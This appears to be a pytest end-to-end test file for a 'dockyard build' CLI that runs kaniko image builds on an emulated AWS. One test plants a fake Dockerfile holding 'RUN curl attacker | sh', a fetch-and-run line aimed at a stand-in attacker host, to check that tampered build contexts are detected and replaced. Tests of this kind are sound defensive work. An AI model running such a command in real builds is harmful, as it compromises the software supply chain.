"""``dockyard build``: the real CLI against the strict emulator, run with the Jenkins agents'
task role as a pipeline runs it, with a fake kaniko playing the container's part with the
kaniko task role."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from devtools import moto_server
from devtools.fake_kaniko import FakeKaniko

from tests.conftest import INTERRUPTIBLE_DOCKYARD
from tests.e2e.conftest import Account, Dockyard


@pytest.fixture()
def builder(dockyard: Dockyard, account: Account, tmp_path: Path) -> Iterator[FakeKaniko]:
    """The builder stack deployed, a context folder at tmp_path/app, kaniko being played."""
    assert account.kaniko is not None
    account.kaniko.stop()  # this test watches its own player
    done = dockyard("up", "--yes", "--no-wait-jenkins", "--only", "builder", "--only", "edge",
                    "--only", "app-web")  # the app stack holds its image repository
    assert done.returncode == 0, done.stderr
    app = tmp_path / "app"
    app.mkdir()
    (app / "Dockerfile").write_text("FROM python:3.12-slim\nCOPY . /app\n")
    (app / "main.py").write_text("print('hello')\n")
    (app / "debug.log").write_text("not sent\n")
    (app / ".dockerignore").write_text("*.log\n")
    kaniko = FakeKaniko(account.emulator).start()
    yield kaniko
    kaniko.stop()
    moto_server.task_steps(1)


def ecr_digest(account: Account, tag: str) -> str:
    details = account.client("ecr").describe_images(repositoryName="acme/web",
                                                    imageIds=[{"imageTag": tag}])
    return str(details["imageDetails"][0]["imageDigest"])


def test_stdout_is_the_image_reference_alone(dockyard: Dockyard, account: Account,
                                            builder: FakeKaniko) -> None:
    done = dockyard("build", "--repo", "web", "--tag", "v1", "app", build="web/main")
    assert done.returncode == 0, done.stderr
    ref = done.stdout.strip()
    assert done.stdout.count("\n") == 1
    repository, digest = ref.split("@")
    assert repository == "123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/acme/web"
    assert digest == ecr_digest(account, "v1")
    assert "INFO[0010] Pushed" in done.stderr, "kaniko's log goes to stderr"
    (handled,) = builder.handled
    assert handled["digest"] == digest
    assert "--cache-repo=123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/acme/web-cache" \
        in handled["command"]


def test_json_is_one_document_and_the_same_source_uploads_nothing(
        dockyard: Dockyard, account: Account, builder: FakeKaniko) -> None:
    first = json.loads(dockyard("build", "--repo", "web", "app", "--output", "json",
                                build="web/main").stdout)
    # --rebuild: the same inputs again would be reused (test_an_unchanged_context_is_not_built…)
    second_run = dockyard("build", "--repo", "web", "app", "--output", "json", "--rebuild",
                          build="web/main")
    assert second_run.returncode == 0, second_run.stderr
    second = json.loads(second_run.stdout)
    assert first["ok"] and second["ok"]
    assert first["source"]["uploaded_bytes"] > 0
    assert second["source"]["uploaded_bytes"] == 0
    assert "is already uploaded" in second_run.stderr
    assert second["ref"] == f"{second['image']}@{second['digest']}"
    assert second["digest"] == ecr_digest(account, second["tags"][0])
    assert second["platforms"][0]["platform"] == "linux/amd64"
    assert second["log_group"] == "/dockyard/acme/builds"
    assert second["log_streams"][0].startswith("build/kaniko/")
    assert second["task_arns"] and second["duration_seconds"] > 0
    assert second["estimated_cost_usd"] > 0


def test_detach_then_follow_with_logs(dockyard: Dockyard, account: Account,
                                      builder: FakeKaniko) -> None:
    detached = dockyard("build", "--repo", "web", "app", "--detach", build="web/main")
    assert detached.returncode == 0, detached.stderr
    arn = detached.stdout.strip()
    assert arn.startswith("arn:aws:ecs:") and "\n" not in arn
    followed = dockyard("logs", "build", arn.rsplit("/", 1)[-1], build="web/main")
    assert followed.returncode == 0, followed.stderr
    assert followed.stdout.strip().endswith(builder.handled[0]["digest"])
    assert "INFO[0010] Pushed" in followed.stderr


def test_list_context_needs_no_aws(dockyard: Dockyard, tmp_path: Path) -> None:
    app = tmp_path / "app"
    app.mkdir()
    (app / "Dockerfile").write_text("FROM scratch\n")
    (app / "main.py").write_text("")
    (app / "debug.log").write_text("")
    (app / ".dockerignore").write_text("*.log\n")
    done = dockyard("build", "--list-context", "app", env={"AWS_ENDPOINT_URL":
                                                          "http://127.0.0.1:9"})
    assert done.returncode == 0, done.stderr
    assert "main.py" in done.stdout and "debug.log" not in done.stdout
    assert done.stdout.strip().endswith("1 paths left out by .dockerignore")


def start_build(account: Account, folder: Path, *args: str) -> subprocess.Popen[str]:
    return subprocess.Popen([*INTERRUPTIBLE_DOCKYARD, "build", "--repo", "web", "app",
                             *args], cwd=folder,
                            env=account.pipeline_env("web/main",
                                                     (folder / "dockyard.yml").read_text()),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def stopped_reasons(account: Account) -> list[str]:
    ecs = account.client("ecs")
    arns = ecs.list_tasks(cluster="acme", desiredStatus="STOPPED")["taskArns"]
    if not arns:
        return []
    return [t.get("stoppedReason", "") for t in
            ecs.describe_tasks(cluster="acme", tasks=arns)["tasks"]]


@pytest.mark.parametrize("case", [
    (signal.SIGINT, 130, "Ctrl-C"),
    (signal.SIGTERM, 143, "SIGTERM"),  # what CI runners (Jenkins, GitHub Actions) send on cancel
    (signal.SIGHUP, 129, "SIGHUP"),
], ids=["SIGINT", "SIGTERM", "SIGHUP"])
def test_a_signal_stops_the_remote_task_and_exits_128_plus_it(
        account: Account, builder: FakeKaniko, tmp_path: Path,
        case: tuple[int, int, str]) -> None:
    signum, code, cause = case
    moto_server.task_steps(100_000)  # the task keeps running until it is stopped
    process = start_build(account, tmp_path)
    deadline = time.monotonic() + 60
    while not builder.handled and time.monotonic() < deadline:
        time.sleep(0.2)
    assert builder.handled, "the build task started"
    time.sleep(1)
    process.send_signal(signum)
    out, err = process.communicate(timeout=120)
    assert process.returncode == code, err
    assert out == ""
    assert "stopping task" in err and f"cancelled from dockyard ({cause})" in err
    assert f"error: the build was cancelled: amd64: cancelled (stopped on {cause})" in err
    assert stopped_reasons(account) == [f"cancelled from dockyard ({cause})"]


def test_the_client_timeout_stops_the_task_and_exits_124(account: Account,
                                                         builder: FakeKaniko,
                                                         tmp_path: Path) -> None:
    moto_server.task_steps(100_000)
    process = start_build(account, tmp_path, "--timeout", "4s")
    out, err = process.communicate(timeout=120)
    assert process.returncode == 124, err
    assert out == ""
    assert "error: the build timed out: amd64: timed out" in err
    assert stopped_reasons(account) == ["dockyard's build timeout passed"]


def test_a_repository_outside_the_platform_is_refused(dockyard: Dockyard,
                                                      builder: FakeKaniko) -> None:
    done = dockyard("build", "--repo", "nope", "app", build="web/main")
    assert done.returncode == 2
    assert "--repo nope: no such repository" in done.stderr
    hub = dockyard("build", "--repo", "docker.io/acme/web", "app", build="web/main")
    assert hub.returncode == 2
    assert "builder.registry_auth_secret" in hub.stderr
    assert builder.handled == []


def test_a_failed_build_passes_kanikos_exit_code_through(dockyard: Dockyard,
                                                         builder: FakeKaniko) -> None:
    """Through to stderr and the JSON, not to dockyard's own exit code: kaniko's 2 (a RUN
    step's) would read as a usage error, so dockyard exits 1."""
    done = dockyard("build", "--repo", "web", "--build-arg", "FAKE_KANIKO_FAIL=2", "app",
                    build="web/main")
    assert done.returncode == 1, done.stderr
    assert done.stdout == ""
    tail = done.stderr.split("last log lines:")[1]
    assert "exit status 2" in tail
    assert "error: the build failed: amd64: build failed (kaniko exited 2" in done.stderr


def test_down_stops_detached_builds_and_idle_agents_before_the_cluster(
        dockyard: Dockyard, account: Account, builder: FakeKaniko) -> None:
    # ECS refuses to delete a cluster with tasks (ClusterContainsTasksException): a detached
    # build nobody followed, and an agent the ECS plugin left idle, must be stopped first.
    detached = dockyard("build", "--repo", "web", "app", "--detach", build="web/main")
    assert detached.returncode == 0, detached.stderr
    build_task = detached.stdout.strip().rsplit("/", 1)[-1]
    ecs = account.client("ecs")
    definition = account.output("acme-builder", "TaskDefinitionAmd64")
    agent = ecs.run_task(cluster="acme", taskDefinition=definition, launchType="FARGATE",
                         networkConfiguration={"awsvpcConfiguration": {
                             "subnets": account.output("acme-builder", "Subnets").split(","),
                             "securityGroups": [account.output("acme-builder",
                                                               "AgentSecurityGroupId")]}},
                         group="family:acme-jenkins-agent")["tasks"][0]["taskArn"]
    done = dockyard("down", "--yes")
    assert done.returncode == 0, done.stderr
    stopped = {line.split()[1] for line in done.stdout.splitlines() if line.startswith("task ")}
    assert stopped == {build_task, agent.rsplit("/", 1)[-1]}, done.stdout + done.stderr
    assert "so ECS can delete the cluster" in done.stderr
    assert stopped_reasons(account) == ["dockyard down: the platform's cluster is being "
                                        "deleted"] * 2
    assert "acme-builder" not in {s["StackName"] for s in account.client(
        "cloudformation").describe_stacks()["Stacks"]}


def _tarball(folder: Path) -> bytes:
    import gzip
    import io
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for path in sorted(folder.iterdir()):
            archive.add(path, arcname=path.name)
    return gzip.compress(buffer.getvalue())


def test_an_s3_context_elsewhere_reaches_kaniko_through_a_regional_url(
        dockyard: Dockyard, account: Account, builder: FakeKaniko, tmp_path: Path) -> None:
    # kaniko's role reads only contexts/ of the platform's bucket, so an archive elsewhere is
    # lent to it as a presigned URL. S3 answers the global endpoint of a new bucket outside
    # us-east-1 with a 307 whose re-sent request no longer matches the signature.
    s3 = account.client("s3")
    s3.create_bucket(Bucket="acme-sources",
                     CreateBucketConfiguration={"LocationConstraint": "ap-southeast-2"})
    s3.put_object(Bucket="acme-sources", Key="web/app.tar.gz", Body=_tarball(tmp_path / "app"))
    done = dockyard("build", "--repo", "web", "s3://acme-sources/web/app.tar.gz")
    assert done.returncode == 0, done.stderr
    (handled,) = builder.handled
    context = next(a for a in handled["command"] if a.startswith("--context="))
    assert context.startswith("--context=https://acme-sources.s3.ap-southeast-2.amazonaws.com/")
    assert done.stdout.strip().endswith(handled["digest"])


def test_a_build_longer_than_the_agents_session_still_returns_its_digest(
        account: Account, builder: FakeKaniko, tmp_path: Path) -> None:
    # Task role credentials last hours on AWS and are renewed; a URL signed with them dies
    # with them. Here sessions last 8 s and the build takes 12: no URL may be involved.
    done = subprocess.run(
        [sys.executable, "-m", "dockyard", "build", "--repo", "web", "--build-arg",
         "FAKE_KANIKO_SECONDS=12", "app", "--output", "json"], cwd=tmp_path,
        env=account.cli_env(role=account.pipeline_role("web"), seconds=8), capture_output=True,
        text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["digest_source"] == "ecr"
    assert result["digest"] == ecr_digest(account, result["tags"][0])
    (handled,) = builder.handled
    assert not any(a.startswith("--digest-file") for a in handled["command"])


def test_another_registry_gets_a_digest_file_and_a_warning_when_it_may_expire(
        dockyard: Dockyard, account: Account, tmp_path: Path) -> None:
    account.client("secretsmanager").create_secret(Name="acme/dockerhub",
                                                   SecretString='{"auths": {}}')
    config = tmp_path / "dockyard.yml"
    config.write_text(config.read_text().replace(
        "timeout_minutes: 60", "timeout_minutes: 60\n  registry_auth_secret: acme/dockerhub"))
    # the app stack holds the role web's trusted builds assume
    assert dockyard("up", "--yes", "--only", "builder", "--only", "edge",
                    "--only", "app-web").returncode == 0
    app = tmp_path / "app"
    app.mkdir()
    (app / "Dockerfile").write_text("FROM scratch\n")
    done = dockyard("build", "--repo", "docker.io/acme/web", "app", "--output", "json",
                    build="web/main")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["digest_source"] == "digest-file"
    assert result["ref"] == f"docker.io/acme/web@{result['digest']}"

    # An operator whose credentials are about to run out (an SSO session, say).
    iam = account.client("iam")
    operator = iam.create_role(RoleName="operator", AssumeRolePolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": []}))["Role"]["Arn"]
    iam.put_role_policy(RoleName="operator", PolicyName="all", PolicyDocument=json.dumps(
        {"Version": "2012-10-17",
         "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))
    short = subprocess.run(
        [sys.executable, "-m", "dockyard", "build", "--repo", "docker.io/acme/web",
         "--build-arg", "FAKE_KANIKO_SECONDS=10", "app"], cwd=tmp_path,
        env=account.cli_env(role=operator, seconds=6), capture_output=True,
        text=True, timeout=300, check=False)
    assert "warning: the credentials signing the digest URL expire in" in short.stderr
    assert short.returncode == 1, short.stderr
    assert "writing digest to file failed" in short.stderr, "kaniko's own reason is shown"


def test_a_context_whose_bytes_are_not_its_name_is_never_built(
        dockyard: Dockyard, account: Account, builder: FakeKaniko, tmp_path: Path) -> None:
    """Something planted under the name the context will have (here by the operator, the only
    other identity that may write web's contexts) is not built: its checksum is not the
    packed context's, so the build uploads the real one over it and kaniko reads that."""
    import gzip
    import io
    import tarfile

    saved = dockyard("build", "app", "--save-context", "ctx.tar.gz", "-o", "json")
    assert saved.returncode == 0, saved.stderr
    name = json.loads(saved.stdout)["tar_sha256"]
    key = f"contexts/apps/web/{name}.tar.gz"
    bucket = account.output("acme-builder", "ContextBucket")
    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w") as archive:
        data = b"FROM evil\nRUN curl attacker | sh\n"
        info = tarfile.TarInfo("Dockerfile")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    s3 = account.client("s3")
    s3.put_object(Bucket=bucket, Key=key, Body=gzip.compress(evil.getvalue()),
                  ChecksumAlgorithm="SHA256")  # a checksum true to the planted bytes
    done = dockyard("build", "--repo", "web", "app", build="web/main")
    assert done.returncode == 0, done.stderr
    assert f"s3://{bucket}/{key} does not hold what its name says" in done.stderr
    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == \
        (tmp_path / "ctx.tar.gz").read_bytes(), "the real context replaced it"
    (handled,) = builder.handled
    assert f"--context=s3://{bucket}/{key}" in handled["command"]
    again = dockyard("build", "--repo", "web", "app", build="web/main")
    assert again.returncode == 0, again.stderr
    assert "is already uploaded" in again.stderr, "the real context, checked, is reused"


def test_a_project_of_any_name_builds_in_the_emulator(dockyard: Dockyard, account: Account,
                                                      tmp_path: Path) -> None:
    """The first edit anyone makes is the project's name: the emulator's kaniko watches every
    cluster, not only acme's."""
    config = tmp_path / "dockyard.yml"
    config.write_text(config.read_text().replace("name: acme", "name: shop", 1))
    account.client("secretsmanager").create_secret(Name="shop/github",
                                                   SecretString=json.dumps(moto_server.GITHUB_STAND_IN))
    done = dockyard("up", "--yes", "--only", "builder", "--only", "edge", "--only", "app-web")
    assert done.returncode == 0, done.stderr
    app = tmp_path / "app"
    app.mkdir()
    (app / "Dockerfile").write_text("FROM scratch\n")
    built = dockyard("build", "--repo", "web", "app")
    assert built.returncode == 0, built.stderr
    assert built.stdout.startswith(
        "123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/shop/web@sha256:")


def test_a_command_the_built_image_lacks_fails_as_on_aws(dockyard: Dockyard, account: Account,
                                                         builder: FakeKaniko) -> None:
    """python:*-slim has no curl: the smoke test the docs once showed exits 127 there (and
    every canary rolled back on AWS while the emulator passed it). The emulator's container
    now fails it as the image would (devtools/images.py); python is there."""
    built = dockyard("build", "--repo", "web", "--tag", "slim", "app")
    assert built.returncode == 0, built.stderr
    image = built.stdout.strip()
    curl = dockyard("run", "web", "--image", image, "--", "sh", "-c",
                    'curl -fsS -H "$DOCKYARD_TEST_HEADER" "$DOCKYARD_TEST_URL/healthz"')
    assert curl.returncode != 0, curl.stderr
    assert "sh: 1: curl: not found" in curl.stderr
    assert "127" in curl.stderr + curl.stdout
    python = dockyard("run", "web", "--image", image, "--", "sh", "-c",
                      "python -c 'import urllib.request'")
    assert python.returncode == 0, python.stderr
    exec_form = dockyard("run", "web", "--image", image, "--", "curl", "http://web/")
    assert exec_form.returncode == 70, exec_form.stderr
    assert "executable file not found" in exec_form.stderr


def test_an_unchanged_context_is_not_built_again(dockyard: Dockyard, account: Account,
                                                 builder: FakeKaniko, tmp_path: Path) -> None:
    """A rebuild of the same inputs returns the trusted image at once and starts no task;
    one byte, a build argument or --rebuild builds again; an untrusted build never reuses."""
    first = dockyard("build", "--repo", "web", "app", build="web/main")
    assert first.returncode == 0, first.stderr
    assert len(builder.handled) == 1
    again = dockyard("build", "--repo", "web", "--tag", "again", "app", "-o", "json",
                     build="web/main")
    assert again.returncode == 0, again.stderr
    assert len(builder.handled) == 1, "no kaniko task started"
    document = json.loads(again.stdout)
    assert f"{document['image']}@{document['digest']}" == first.stdout.strip()
    assert document["digest_source"] == "build-record" and document["task_arns"] == []
    assert "reused" in again.stderr and "--rebuild" in again.stderr
    assert ecr_digest(account, "again") == document["digest"], "the tags asked for are put"

    untrusted = dockyard("build", "--repo", "web", "app", build="web/PR-12")
    assert untrusted.returncode == 0, untrusted.stderr
    assert len(builder.handled) == 2, "an untrusted build reuses nothing"
    forced = dockyard("build", "--repo", "web", "--rebuild", "app", build="web/main")
    assert forced.returncode == 0 and len(builder.handled) == 3
    with_arg = dockyard("build", "--repo", "web", "--build-arg", "MODE=fast", "app",
                        build="web/main")
    assert with_arg.returncode == 0 and len(builder.handled) == 4
    (tmp_path / "app" / "main.py").write_text("print('hello!')\n")  # one byte more
    changed = dockyard("build", "--repo", "web", "app", build="web/main")
    assert changed.returncode == 0 and len(builder.handled) == 5
    assert dockyard("build", "--repo", "web", "app", build="web/main").returncode == 0
    assert len(builder.handled) == 5, "and that one is reused in turn"


def test_a_tag_names_one_image_for_good(dockyard: Dockyard, account: Account,
                                        builder: FakeKaniko, tmp_path: Path) -> None:
    """Tags never move by default (builder.mutable_tags: []): a build asking for a tag that is
    already another image's is refused before its task starts, not by ECR after the build;
    the same image under the same tag is no move; a tag mutable_tags lists moves."""
    first = dockyard("build", "--repo", "web", "--tag", "v1", "--tag", "latest", "app",
                     build="web/main")
    assert first.returncode == 0, first.stderr
    assert len(builder.handled) == 1
    same = dockyard("build", "--repo", "web", "--tag", "v1", "app", build="web/main")
    assert same.returncode == 0, same.stderr
    assert len(builder.handled) == 1, "reused under the tag it already has"

    (tmp_path / "app" / "main.py").write_text("print('v2')\n")
    moved = dockyard("build", "--repo", "web", "--tag", "v1", "app", build="web/main")
    assert moved.returncode == 2, moved.stderr
    assert "--tag v1: acme/web:v1 is already the image sha256:" in moved.stderr
    assert "builder.mutable_tags" in moved.stderr and "Traceback" not in moved.stderr
    assert len(builder.handled) == 1, "no kaniko task started"
    assert ecr_digest(account, "v1") == first.stdout.strip().split("@")[1]
    detached = dockyard("build", "--repo", "web", "--tag", "latest", "--detach", "app",
                        build="web/main")
    assert detached.returncode == 2 and "--tag latest" in detached.stderr

    config = tmp_path / "dockyard.yml"
    config.write_text(config.read_text().replace(
        "builder:\n", "builder:\n  mutable_tags: [latest]\n", 1))
    up = dockyard("up", "--yes", "--no-wait-jenkins", "--only", "app-web")
    assert up.returncode == 0, up.stderr
    latest = dockyard("build", "--repo", "web", "--tag", "latest", "app", build="web/main")
    assert latest.returncode == 0, latest.stderr
    assert ecr_digest(account, "latest") == latest.stdout.strip().split("@")[1] \
        != first.stdout.strip().split("@")[1]
